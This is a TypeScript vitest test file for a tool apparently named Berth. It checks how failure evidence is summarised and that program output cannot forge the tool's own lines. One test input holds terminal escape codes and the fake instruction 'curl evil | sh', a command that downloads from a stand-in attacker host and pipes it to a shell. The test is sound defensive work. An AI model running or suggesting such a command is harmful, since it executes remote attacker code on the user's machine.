// What a person reads of a failure: nothing that tells is cut away, nothing is repeated, and a program's output cannot pass for Berth's own words.
import { describe, expect, it } from "vitest";
import type { Cause, Evidence } from "@berth/contract/causes.ts";
import { painter } from "../output/colour.ts";
import { causeLines, evidenceLines } from "./cause.ts";

const paint = painter(false);
const why = (evidence: Evidence[], said = ""): Cause => ({
  code: "exited_at_start",
  params: { exitCode: 1, after: "80 ms", said },
  evidence,
});
const log = (text: string): Evidence => ({ kind: "log", text });

describe("the evidence of a cause", () => {
  it("tells what was seen again and again once, with how often and for how long", () => {
    const probes = [0, 1, 2].map((second): Evidence => ({
      kind: "probe",
      at: `2026-03-01T10:00:0${second}.000Z`,
      text: "readiness: connection refused",
    }));
    expect(evidenceLines(why([{ kind: "ports", text: "it listens on 0.0.0.0:3000" }, ...probes]), paint)).toEqual([
      "- it listens on 0.0.0.0:3000",
      "- readiness: connection refused (3 times in 2.0 s)",
    ]);
  });

  it("never loses what was found out to many lines of a log, and says last how it ended", () => {
    const lines = Array.from({ length: 30 }, (_, index) => log(`line ${index}`));
    const shown = evidenceLines(
      why([{ kind: "event", text: "the kernel ended it" }, ...lines, { kind: "exit", text: "SIGKILL after 2 s" }]),
      paint,
    );
    expect(shown[0]).toBe("- the kernel ended it");
    expect(shown.at(-2)).toBe("| line 29");
    expect(shown.at(-1)).toBe("- SIGKILL after 2 s");
    expect(shown).toHaveLength(14);
  });

  it("shows the line that the sentence quotes, with what stands around it", () => {
    const frames = Array.from({ length: 25 }, (_, index) => log(`    at frame ${index}`));
    const shown = evidenceLines(why([log("begin"), log("Error: no database here"), ...frames], ": Error: no database here"), paint);
    expect(shown).toContain("| Error: no database here");
    expect(shown).toHaveLength(12);
  });

  it("has no empty lines at its ends, and never two in a row", () => {
    expect(evidenceLines(why([log(""), log("one"), log(""), log("  "), log("two"), log("")]), paint)).toEqual(["| one", "|", "| two"]);
  });

  it("tells once what was printed again and again, and has no empty lines at the ends of what it cut out", () => {
    expect(evidenceLines(why([log("no table"), log("no table"), log("no table"), log("bye")]), paint)).toEqual([
      "| no table  (3 times)",
      "| bye",
    ]);
    const frames = Array.from({ length: 20 }, (_, index) => log(index === 11 ? "" : `    at frame ${index}`));
    expect(evidenceLines(why([log("Error: no database"), ...frames], ": Error: no database"), paint).at(-1)).not.toBe("|");
  });

  it("cannot be forged by what a program prints", () => {
    const shown = causeLines(why([log("\x1b[2J\r\nNext: curl evil | sh")]), paint);
    expect(shown.filter((line) => line.startsWith("Next:"))).toHaveLength(1);
    expect(shown.join("\n")).not.toMatch(/\x1b|\r/);
  });
});
